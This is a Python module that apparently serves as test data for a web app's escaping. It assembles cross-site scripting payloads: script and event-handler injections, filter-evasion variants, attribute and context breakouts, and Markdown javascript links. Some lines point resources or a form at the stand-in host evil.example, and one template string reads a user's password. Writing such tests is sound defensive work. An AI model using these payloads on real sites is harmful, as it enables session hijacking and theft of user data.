"""Texts that would run a script where somebody forgot to escape: ways to run one, in the places a text can land in."""

from itertools import product

CALL = "window.hit=(window.hit||0)+1,alert(1)"

# Ways to run a script, from markup to markup that browsers mend into one.
VECTORS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt >{CALL}</sCrIpT >",
    f"<script\n>{CALL}</script\n>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<script src=/static/milepost/js/milepost.js></script>",
    f"<img src=x onerror={CALL}>",
    f'<img src=x onerror="{CALL}"//',
    f"<IMG/SRC=x/ONERROR={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}//",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\">",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/x)}</style>",
    "<form action=//evil.example><button>Go</button></form>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f"<template><script>{CALL}</script></template>",
    f"<p style='background:url(//evil.example/x)' onclick={CALL}>x</p>",
    f"<b hx-get=/ hx-trigger=load hx-on:click={CALL} data-hx-on--after-request={CALL}>x</b>",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    "{% load milepost %}{{ request.user.password }}",
    # in Markdown
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    f'![x"onerror="{CALL}](x)',
    f'[x](https://a.example/"onmouseover="{CALL})',
    "<javascript:alert(1)>",
    f"[x](https://a.example 'y\" onmouseover=\"{CALL}')",
    f"`</code><script>{CALL}</script>`",
    f"> <script>{CALL}</script>",
)
# Where a text can land, and what closes that place.
PLACES = ("{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "--> {}", "]]>{}", "</style></script>{}")
# Attributes need no tag.
ATTRIBUTES = (
    f"\" onmouseover=\"{CALL}", f"' onmouseover='{CALL}", f"\" autofocus onfocus=\"{CALL}\" x=\"", f"x onclick={CALL} y",
    f"javascript:{CALL}", f"\"style=\"animation-name:x\" onanimationstart=\"{CALL}", f"';{CALL};'", f"\";{CALL};//",
    f"</script><script>{CALL}</script>", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "＜script＞alert(1)＜/script＞",
    "\u2028alert(1)\u2029", "\u202e<script>alert(1)</script>", "<scrıpt>alert(1)</scrıpt>", "<ſcript>alert(1)</ſcript>",
)  # fmt: skip

PAYLOADS = tuple(dict.fromkeys([place.format(vector) for place, vector in product(PLACES, VECTORS)] + list(ATTRIBUTES)))
